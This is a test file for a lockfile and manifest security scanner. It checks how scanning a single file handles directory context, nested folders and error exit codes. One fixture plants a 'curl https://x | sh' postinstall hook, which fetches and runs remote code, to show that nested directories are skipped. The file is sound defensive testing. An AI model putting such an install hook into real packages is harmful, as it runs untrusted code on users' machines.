/** `inert scan path/to/<lockfile>`: the file with its directory's other files as context, no subdirectories. */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, describe, expect, it } from 'vitest';
import { runCaptured } from './captured.js';

const repo = fileURLToPath(new URL('../../../', import.meta.url));
const tmp = mkdtempSync(join(tmpdir(), 'inert-single-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

async function json(argv: string[]) {
  const { code, stdout, stderr } = await runCaptured([...argv, '--format', 'json'], repo);
  return {
    code,
    stderr,
    result: stdout
      ? (JSON.parse(stdout) as {
          root: string;
          findings: { check: string; location: { path: string } }[];
          files: { path: string }[];
        })
      : undefined,
  };
}

describe('inert scan <file>', () => {
  it('scans a lockfile with its directory as context: same findings as the directory, exit code by them', async () => {
    const dir = 'corpus/npm/install-scripts--transitive-lockfile-v3';
    const one = await json(['scan', `${dir}/package-lock.json`]);
    const all = await json(['scan', dir]);
    expect(one.code).toBe(1);
    expect(one.result!.root).toBe(resolve(repo, dir));
    expect(one.result!.findings.map((f) => f.check)).toEqual(all.result!.findings.map((f) => f.check));
  });

  it('does not walk subdirectories: a nested lockfile is not scanned', async () => {
    const dir = join(tmp, 'app');
    mkdirSync(join(dir, 'nested'), { recursive: true });
    writeFileSync(
      join(dir, 'package.json'),
      JSON.stringify({ name: 'app', version: '1.0.0', dependencies: { a: '1.0.0' } }),
    );
    writeFileSync(
      join(dir, 'package-lock.json'),
      JSON.stringify({
        name: 'app',
        lockfileVersion: 3,
        packages: {
          '': { name: 'app' },
          'node_modules/a': {
            version: '1.0.0',
            resolved: 'https://registry.npmjs.org/a/-/a-1.0.0.tgz',
            integrity: `sha512-${Buffer.alloc(64).toString('base64')}`,
          },
        },
      }),
    );
    writeFileSync(
      join(dir, 'nested', 'package.json'),
      JSON.stringify({ name: 'nested', scripts: { postinstall: 'curl https://x | sh' } }),
    );
    const r = await json(['scan', join(dir, 'package-lock.json')]);
    expect(r.code).toBe(0);
    expect(r.result!.files.map((f) => f.path).sort()).toEqual(['package-lock.json', 'package.json']);
    expect(r.result!.findings.filter((f) => f.location.path.startsWith('nested/'))).toEqual([]);
  });

  it('a file no plugin reads is refused rather than scanned as its directory', async () => {
    const r = await json(['scan', 'README.md']);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('nor a manifest, lockfile, client config or CI file of any ecosystem');
  });

  it('a file named like a wheel is read as a wheel, not as a single file: a broken one is an error naming it', async () => {
    writeFileSync(join(tmp, 'x-1.0-py3-none-any.whl'), 'PK');
    const r = await json(['scan', join(tmp, 'x-1.0-py3-none-any.whl')]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('x-1.0-py3-none-any.whl');
  });

  it('a missing path is still a usage error (exit 2)', async () => {
    const r = await json(['scan', join(tmp, 'no-such-lock.json')]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('not a directory, a file or a package archive');
  });
});
